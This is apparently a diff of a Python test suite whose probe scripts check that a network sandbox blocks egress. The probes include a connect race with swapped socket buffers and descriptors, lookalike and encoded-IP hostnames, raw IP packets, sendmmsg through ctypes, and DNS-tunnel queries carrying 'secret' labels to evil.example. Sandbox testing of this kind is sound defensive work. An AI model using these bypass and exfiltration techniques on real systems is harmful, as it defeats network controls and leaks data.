@@ -76,13 +76,13 @@ from ctypes import c_char, memmove
 good, bad = name4(SERVICE4, 8085), name4(OTHER4, 80)
 buffer = (c_char * 16).from_buffer_copy(good)
 stop = False
-fds = [socket.socket() for _ in range(2)] + [socket.socket(2, 2)]
+fds = [socket.socket(), socket.socket(2, 2), socket.socket(1)]
 def flip():
     while not stop:
         memmove(buffer, bad, 16); memmove(buffer, good, 16)
 def swap():
     while not stop:
-        for each in fds: os.dup2(each.fileno(), 90)
+        for each in fds: quiet(os.dup2, each.fileno(), 90)
 """
 _RACE_RUN = """
 threads = [threading.Thread(target=each) for each in ({threads})]
@@ -90,10 +90,9 @@ os.dup2(fds[0].fileno(), 90)
 for each in threads: each.start()
 end = time.monotonic() + 1.5
 while time.monotonic() < end:
-    s = socket.socket()
-    fds[0].close(); fds[0] = s
+    s = fds[0] = socket.socket()
     libc.connect({fd}, buffer, 16)
-    s.close()
+    os.dup2(s.fileno(), 90)
 stop = True
 """
 _DNS = """
@@ -105,7 +104,7 @@ def question(name, kind):
 def nameservers():
     return [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
 def by_udp(server, name, kind):
-    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as s:
+    with socket.socket(10 if ":" in server else 2, socket.SOCK_DGRAM) as s:
         s.settimeout(0.3)
         s.sendto(question(name, kind), (server, 53))
         return s.recv(4096)
@@ -142,7 +141,8 @@ for name in (f"{WEB}.evil.example", f"xweb.{ZONE}", f"evilweb.{ZONE}", ZONE, OTH
     "lookalikes": Probe(
         """
 for name in ("w\\u0435b", "we\\u0253", "\\u24b2eb\\u0301"):
-    quiet(lambda: tcp(socket.getaddrinfo(f"{name.encode('idna').decode()}.{ZONE}", 80, 2)[0][4][0], 80))
+    ascii = name.encode("idna").decode()
+    quiet(lambda: tcp(socket.getaddrinfo(f"{ascii}.{ZONE}", 80, 2)[0][4][0], 80))
 quiet(lambda: tcp(socket.getaddrinfo(f"xn--wb-nlc.{ZONE}", 80, 2)[0][4][0], 80))
 """,
         at(("other4", 80)),
@@ -192,14 +192,17 @@ quiet(tcp, OTHER6, 80)
         at(("other4", 80), ("inner4", 80)),
     ),
     "executor_address": Probe(
-        "quiet(tcp, EXECUTOR4, HOST_PORT); quiet(tcp, EXECUTOR6, HOST_PORT); quiet(tcp, OTHER4, 80)",
+        "for host in (EXECUTOR4, EXECUTOR6): quiet(tcp, host, HOST_PORT)\nquiet(tcp, OTHER4, 80)",
         at(("other4", 80)),
     ),
     "link_local": Probe(
         f"""
 for device in ("eth0", "lo"):
-    quiet(lambda: socket.create_connection(
-        ({LINK_LOCAL["servers"]!r}, 80, 0, socket.if_nametoindex(device)), 2))
+    def scoped():
+        s = socket.socket(socket.AF_INET6)
+        s.settimeout(2)
+        s.connect(({LINK_LOCAL["servers"]!r}, 80, 0, socket.if_nametoindex(device)))
+    quiet(scoped)
 quiet(tcp, {LINK_LOCAL["servers"]!r}, 80)
 quiet(tcp, "169.254.77.%d" % SLOT, 80)
 """,
@@ -249,10 +252,13 @@ quiet(s.sendmsg, [b"secret"], [], 0, (OTHER4, 8087))
     "sendmmsg": Probe(
         """
 s = socket.socket(2, 2)
-data, address = ctypes.create_string_buffer(b"secret", 6), ctypes.create_string_buffer(name4(OTHER4, 8088), 16)
-iov = ctypes.create_string_buffer(struct.pack("<QQ", ctypes.addressof(data), 6), 16)
-msg = struct.pack("<QIxxxxQQQQiIIxxxx", ctypes.addressof(address), 16, ctypes.addressof(iov), 1, 0, 0, 0, 0, 0)
-both = ctypes.create_string_buffer(msg * 2, len(msg) * 2)
+kept = []
+def place(data):
+    kept.append(ctypes.create_string_buffer(data, len(data)))
+    return ctypes.addressof(kept[-1])
+iov = place(struct.pack("<QQ", place(b"secret"), 6))
+msg = struct.pack("<QIxxxxQQQQiIIxxxx", place(name4(OTHER4, 8088)), 16, iov, 1, 0, 0, 0, 0, 0)
+both = ctypes.c_void_p(place(msg * 2))
 print(libc.sendmmsg(s.fileno(), both, 2, 0), ctypes.get_errno())
 """,
         at(("other4", 8088)),
@@ -291,8 +297,11 @@ s = quiet(socket.socket, 2, 3, 255)
         """
 def send(device):
     s = socket.socket(17, 2, socket.htons(0x800))
-    head = struct.pack(">BBHHHBBH4s4s", 69, 0, 28, 0, 0, 9, 17, 0, socket.inet_aton(PLAIN4),
-                       socket.inet_aton(OTHER4))
+    def head(checksum):
+        ends = socket.inet_aton(PLAIN4), socket.inet_aton(OTHER4)
+        return struct.pack(">BBHHHBBH4s4s", 69, 0, 28, 0, 0, 9, 17, checksum, *ends)
+    total = sum(struct.unpack(">10H", head(0)))
+    head = head(~((total & 0xffff) + (total >> 16)) & 0xffff)
     s.sendto(head + struct.pack(">HHHH", 9, 8092, 8, 0), (device, 0x800, 0, 0, b"\\xff" * 6))
 quiet(send, "eth0"); quiet(send, "lo")
 """,
@@ -417,7 +426,8 @@ for last in range(0, 40):
     ),
     "unroutable_forms": Probe(
         """
-for host in ("0x0b4d%02x0b" % SLOT, str(struct.unpack(">I", socket.inet_aton(OTHER4))[0]), "11.77.%d.013" % SLOT):
+number = struct.unpack(">I", socket.inet_aton(OTHER4))[0]
+for host in ("0x%08x" % number, str(number), "11.77.%d.013" % SLOT):
     quiet(lambda: tcp(socket.gethostbyname(host), 80))
 """,
         at(("other4", 80)),
@@ -429,7 +439,8 @@ TUNNEL = (
     + """
 for server in [*nameservers(), RESOLVER4, RESOLVER6]:
     for kind in (1, 28, 16, 10, 15, 33, 5, 255, 65, 12):
-        for name in (f"secret-{kind}.{ZONE}", f"secret-{kind}.{WEB}", f"secret-{kind}.evil.example"):
+        for base in (ZONE, WEB, "evil.example"):
+            name = f"secret-{kind}.{base}"
             for way in (by_udp, by_tcp):
                 quiet(way, server, name, kind)
 """
